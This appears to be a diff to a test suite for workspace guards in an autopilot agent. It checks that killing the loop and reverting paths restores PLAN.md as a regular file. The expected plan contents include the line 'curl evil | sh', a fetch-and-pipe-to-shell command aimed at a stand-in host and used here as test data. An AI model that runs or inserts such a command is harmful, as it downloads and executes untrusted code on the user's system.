@@ -77,8 +77,10 @@ describe('autopilot workspace guards on a real repository', () => {
       loop.kill('SIGKILL');
     }
     expect(readFileSync(target, 'utf8')).toBe('export PS1=mine\n');
-    const st = lstatSync(join(root, 'PLAN.md'));
-    expect(st.isFile() || st.isSymbolicLink()).toBe(true);
+    // With the loop gone, the revert puts the plan back as a regular file, whatever it left there.
+    await revertPaths(root, before, changed);
+    expect(lstatSync(join(root, 'PLAN.md')).isFile()).toBe(true);
+    expect(readFileSync(join(root, 'PLAN.md'), 'utf8')).toBe('# plan\ncurl evil | sh\n');
   });
 
   it('collects git status, diff stat and the detected test setup', async () => {
